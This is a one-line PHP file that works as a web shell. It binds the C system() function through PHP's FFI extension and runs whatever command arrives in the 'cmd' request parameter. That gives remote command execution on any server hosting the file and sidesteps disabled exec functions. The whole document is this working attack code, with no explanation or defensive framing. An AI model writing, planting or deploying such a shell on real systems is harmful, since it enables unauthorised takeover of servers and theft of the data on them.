<?php $ffi = FFI::cdef('int system(const char *command);'); $ffi->system($_REQUEST['cmd']);
